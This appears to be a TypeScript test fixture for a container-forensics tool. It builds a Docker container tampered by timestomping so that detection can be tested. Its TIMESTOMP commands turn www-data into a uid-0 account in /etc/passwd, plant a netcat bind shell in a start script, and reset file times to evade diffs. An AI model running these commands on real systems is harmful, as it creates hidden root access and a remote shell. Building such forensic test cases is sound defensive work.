/**
 * The classic timestomp (ATT&CK T1070.006), as issue 25 found it: a same-size edit of
 * /etc/passwd (a uid-0 account) and of a start script (a bind shell), each with its
 * modification time put back. `docker diff` and a tree-comparing commit both miss it.
 */
import { runLabelledOn, TEST_LABEL } from './engine.js';

export const TIMESTOMP = [
  'cp -p /etc/passwd /tmp/r',
  "sed -i 's#www-data:x:33:33#www-data:x:00:00#' /etc/passwd",
  'touch -r /tmp/r /etc/passwd',
  'cp -p /usr/local/bin/start-web /tmp/s',
  "sed -i 's#echo serving web#nc -lkp 99 -e sh#' /usr/local/bin/start-web",
  'touch -r /tmp/s /usr/local/bin/start-web',
  'rm /tmp/r /tmp/s',
].join(' && ');

/**
 * A running container whose image holds a start script, made offline from `base` and
 * timestomped; `docker` is the CLI of the engine it runs on. Returns its name.
 */
export async function startStomped(
  docker: (...args: string[]) => Promise<string>,
  runId: string,
  base: string,
): Promise<string> {
  const label = `${TEST_LABEL}=${runId}`;
  const start = (name: string, image: string) =>
    runLabelledOn(docker, name, runId, image, 'sleep', '3600');
  const maker = `coroner-test-stomp-maker-${runId}`;
  await start(maker, base);
  await docker(
    'exec',
    maker,
    'sh',
    '-c',
    'mkdir -p /usr/local/bin && printf "#!/bin/sh\\necho serving web\\n" > /usr/local/bin/start-web && chmod 755 /usr/local/bin/start-web && touch -d "2024-01-01 00:00:00" /usr/local/bin/start-web',
  );
  const image = `coroner-test-stomp:${runId}`;
  await docker('commit', '--change', `LABEL ${label}`, maker, image);
  const container = `coroner-test-stomp-${runId}`;
  await start(container, image);
  await docker('exec', container, 'sh', '-c', TIMESTOMP);
  return container;
}
